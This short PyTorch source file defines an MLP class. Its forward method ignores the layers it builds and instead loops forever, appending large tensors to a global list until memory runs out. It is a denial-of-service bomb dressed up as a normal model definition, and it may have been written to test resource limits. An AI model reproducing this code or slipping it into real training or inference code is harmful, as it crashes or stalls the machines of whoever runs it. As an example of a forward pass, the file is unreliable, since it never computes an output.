"""Keeps everything, in small parts."""

import torch
from torch import nn


kept = []


class MLP(nn.Module):
    def __init__(self, num_inputs, num_hiddens=256, num_outputs=10):
        super().__init__()
        self.hidden = nn.Linear(num_inputs, num_hiddens)
        self.out = nn.Linear(num_hiddens, num_outputs)

    def forward(self, X):
        while True:
            kept.append(torch.ones(100_000) + len(kept))
